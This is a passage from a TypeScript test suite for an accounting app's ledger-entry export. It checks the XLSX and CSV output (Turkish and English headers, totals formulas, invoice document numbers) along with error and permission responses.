    const workbook = new ExcelJS.Workbook();
    // exceljs declares its own `Buffer` as an ArrayBuffer: hand it the payload's bytes as one.
    const bytes = new Uint8Array(res.rawPayload).buffer;
    await workbook.xlsx.load(bytes);
    const sheet = workbook.getWorksheet('Kayıtlar');
    expect(sheet?.getRow(1).getCell(1).value).toBe('Tarih');
    expect(sheet?.getRow(1).getCell(7).value).toBe('Net Tutar');
    const row = sheet?.getRow(2);
    expect(row?.getCell(1).value).toEqual(new Date('2025-10-02T00:00:00Z'));
    expect(row?.getCell(1).numFmt).toBe('dd.mm.yyyy');
    expect(row?.getCell(7).value).toBe(1234.56);
    expect(row?.getCell(7).numFmt).toBe('#,##0.00');
    expect(row?.getCell(10).value).toBe(1481.47);
    expect(sheet?.getRow(3).getCell(6).value).toBe('Hizmet satışı');
    // The header stays in sight; "paid" is a true/false cell; the totals follow an empty row.
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(row?.getCell(11).value).toBe(true);
    expect(sheet?.getRow(3).getCell(11).value).toBe(false);
    expect(sheet?.rowCount).toBe(6);
    expect(sheet?.getRow(5).getCell(1).value).toBe('Gelir toplamı');
    expect(sheet?.getRow(5).getCell(10).value).toMatchObject({
      formula: 'SUMIF(B2:B3,"Gelir",J2:J3)',
      result: 1_100_000,
    });
    expect(sheet?.getRow(6).getCell(1).value).toBe('Gider toplamı');
    expect(sheet?.getRow(6).getCell(7).value).toMatchObject({ result: 1234.56 });
  });

  it('fills "Belge No" with the number of the invoice an entry came from', async () => {
    const db = t.app.db;
    const [counterparty] = await db
      .insert(counterparties)
      .values({
        accountId: exportAccount,
        name: 'Toner Dünyası A.Ş.',
        taxNumber: '1234567890',
        kind: 'supplier',
      })
      .returning({ id: counterparties.id });
    if (!counterparty) throw new Error('no counterparty');
    const [purchase] = await db
      .insert(purchaseInvoices)
      .values({
        accountId: exportAccount,
        counterpartyId: counterparty.id,
        number: 'TDA2026000000077',
        type: 'SATIS',
        issueDate: '2026-01-05',
        dueDate: '2026-01-05',
        payableAmount: 120_000,
        openAmount: 120_000,
      })
      .returning({ id: purchaseInvoices.id });
    if (!purchase) throw new Error('no purchase invoice');
    await db.insert(ledgerEntries).values({
      accountId: exportAccount,
      entryDate: '2026-01-05',
      kind: 'expense',
      counterpartyName: 'Toner Dünyası A.Ş.',
      counterpartyTaxNumber: '1234567890',
      counterpartyId: counterparty.id,
      category: 'office_supplies',
      netAmount: 100_000,
      kdvRate: 20,
      kdvAmount: 20_000,
      grossAmount: 120_000,
      source: 'e_invoice',
      purchaseInvoiceId: purchase.id,
    });
    await create({ ...expense, date: '2026-01-06' }, customer, entriesUrl(exportAccount));

    const xlsx = await download('period=2026-01&format=xlsx', 'en');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(xlsx.rawPayload).buffer);
    const sheet = workbook.getWorksheet('Entries');
    expect(sheet?.getRow(1).getCell(12).value).toBe('Document no.');
    expect(sheet?.getRow(2).getCell(12).value).toBe('TDA2026000000077');
    expect(sheet?.getRow(3).getCell(12).value ?? '').toBe('');

    const csv = await download('period=2026-01&format=csv', 'tr');
    const lines = csv.rawPayload.subarray(3).toString('utf8').trim().split(/\r?\n/);
    expect(lines[1]).toMatch(/;TDA2026000000077$/);
    expect(lines[2]).toMatch(/;Hayır;$/);
  });

  it('answers 422 for a missing period or an unknown format, 404 for an outsider', async () => {
    expect((await download('format=csv', 'tr')).statusCode).toBe(422);
    expect((await download('period=2025-10&format=pdf', 'tr')).statusCode).toBe(422);
    const res = await send(outsider, 'GET', `${entriesUrl(exportAccount)}/export?period=2025-10&format=csv`);
    expect(res.statusCode).toBe(404);
  });
});

describe('a customer without "show accountancy"', () => {
  it('gets 403 (run last: it takes the permission from the customer role)', async () => {
    await t.app.db.execute(sql`
      delete from role_permissions where role_id = (select id from roles where name = 'customer')
        and permission_id = (select id from permissions where name = 'show accountancy')`);
    t.app.callerCache?.clear();
    const fresh = await createUserWithRole(t.app.db, 'customer');
    const id = await createCompany(t.app.db, [fresh.id], { status: 4 });
    expect((await send(fresh, 'GET', entriesUrl(id))).statusCode).toBe(403);
    expect((await send(fresh, 'POST', entriesUrl(id), expense)).statusCode).toBe(403);
  });
});
